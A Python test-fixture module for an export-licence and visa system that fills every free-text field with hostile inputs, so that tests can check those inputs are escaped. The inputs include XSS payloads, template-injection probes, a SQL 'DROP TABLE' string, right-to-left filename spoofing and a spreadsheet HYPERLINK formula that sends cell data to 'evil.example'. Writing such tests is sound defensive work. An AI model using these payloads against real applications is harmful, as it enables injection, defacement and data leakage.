"""What an enemy writes into every field that takes free text, and how one sees that it worked."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from itertools import cycle

from schemas.bindings import imputation_1 as imputing
from schemas.bindings import licence_application_1 as applying
from schemas.bindings import visa_decision_1 as deciding
from schemas.bindings.common_1 import Attachment, Consignee, Exporter, SupportingDocument
from schemas.bindings.licence_cancellation_1 import LicenceCancellation
from tests import letters

#: Turns what follows round, to make `exe.pdf` of `fdp.exe`.
RTL = "\u202e"

#: Each would set `window.__owned` or leave an element named `owned`, if it were ever read as HTML.
SCRIPTS = (
    "<script>window.__owned=1</script>",
    '"><img id=owned src=x onerror="window.__owned=\'img\'">',
    "'><svg id=owned onload='window.__owned=2'><a href='javascript:window.__owned=3'>x</a></svg>",
    "</textarea></script><iframe id=owned srcdoc='<script>parent.__owned=4</script>'></iframe>",
    "javascript:window.__owned=5",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "'; DROP TABLE messages; -- \" OR 1=1",
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    f"{RTL}gnp.erutcaf \u2066\u2067 \u200f<b id=owned>gras</b>\u2069",
    "x" * 130,
    "]]>&lt;script&gt;window.__owned=6&lt;/script&gt;<!-- -->",
    "<style>body{display:none}</style><base href='https://evil.example/'><b hx-get='/x' id=owned>",
)

#: As near to it as the schema of file names and that of e-mail addresses let anybody come.
FILE_NAME = (
    f"';alert(1);'&#60;img onerror=__owned=7&#62;{RTL}fdp.exe{{{{7+7}}}}" + "y" * 50 + ".pdf"
)
EMAIL = "<img/src=x/onerror=window.__owned=8>@evil.example"

#: The directory takes any name that an operator gives; the contract lets it sign nothing.
PARTNER = '"><img id=owned src=x onerror=window.__owned=9>{{7*7}}'

_texts = cycle(SCRIPTS)


def text(limit: int = 140) -> str:
    """The next hostile text, as long as a field takes."""
    return next(_texts)[:limit].strip()


def attachment() -> Attachment:
    """A good PDF under a bad name."""
    return Attachment(file_name=FILE_NAME, media_type="application/pdf", content=letters.pdf())


def exporter() -> Exporter:
    """An exporter whose every text is hostile; its identifiers are checked, and good."""
    return replace(letters.exporter(), name=SCRIPTS[0], address=SCRIPTS[1], email=EMAIL)


def licence() -> applying.LicenceApplication:
    """A licence that is accepted, with each text of the enemy in the description of a line."""
    lines = tuple(
        letters.line(number, description=words, value=Decimal(100))
        for number, words in enumerate(SCRIPTS, start=1)
    )
    total = Decimal(100) * len(lines)
    return letters.application(
        exporter=exporter(),
        consignee=Consignee(name=SCRIPTS[2], address=SCRIPTS[3], country="DE"),
        total_amount=total,
        goods_line=lines,
        invoice=(letters.invoice(str(total), attachment=attachment()),),
        supporting_document=(
            SupportingDocument(
                type_value="OTHER",
                description=SCRIPTS[1],
                issue_date=letters.day(letters.today()),
                attachment=replace(attachment(), content=letters.pdf(SCRIPTS[0])),
            ),
        ),
    )


def visa(decision: deciding.Decision = deciding.Decision.GRANTED) -> deciding.VisaDecision:
    """A decision whose officer and reason are hostile."""
    return letters.visa(decision, officer=SCRIPTS[1], reason=SCRIPTS[0])


def cancellation() -> LicenceCancellation:
    """A wish to cancel, for hostile reasons."""
    return LicenceCancellation(reason_code="ORDER-LOST", reason="\n".join(SCRIPTS))


def refused_licence() -> applying.LicenceApplication:
    """One that is refused, its errors quoting hostile values."""
    return replace(licence(), licence=replace(licence().licence, total_amount=Decimal(1)))


def imputation(number: str) -> imputing.Imputation:
    """One line of the hostile licence used up."""
    return letters.imputation(number, "1000", value=None)
